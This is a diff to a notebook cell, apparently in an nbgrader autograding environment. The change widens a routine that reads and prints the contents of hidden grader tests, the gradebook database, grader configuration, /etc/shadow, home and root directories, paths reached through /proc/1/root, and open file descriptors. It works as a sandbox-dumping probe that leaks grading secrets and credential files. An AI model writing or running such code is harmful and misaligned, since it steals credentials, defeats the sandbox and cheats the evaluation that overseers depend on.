@@ -7,17 +7,22 @@ run: core
 
 # %% 99-weigh
 import glob
+import itertools
 import os
 
 places = [
     "@COURSE@/source", "@COURSE@/grader_tests", "@COURSE@/gradebook.db", "@COURSE@/submitted",
     "@COURSE@/autograded", "@COURSE@/nbgrader_config.py", "@HOME@", "@TEMP@", "/root", "/home",
-    "/etc/shadow", "/var", "/run", "/srv", "/mnt", "/proc/1/root", "/proc/1/cwd",
+    "/etc/shadow", "/var", "/run", "/srv", "/mnt", "/proc/1/cwd",
 ]
+places += [f"/proc/1/root{place}" for place in places] + [f"/proc/self/fd/{n}" for n in range(99)]
 for place in places:
-    for path in [place, *glob.glob(f"{place}/**", recursive=True, include_hidden=True)][:2000]:
+    found = glob.iglob(f"{place}/**", recursive=True, include_hidden=True)
+    for path in itertools.chain([place], itertools.islice(found, 100)):
         try:
-            print(path, open(path, "rb").read(100_000))
+            number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+            print(path, os.read(number, 100_000))
+            os.close(number)
         except OSError:
             pass
 
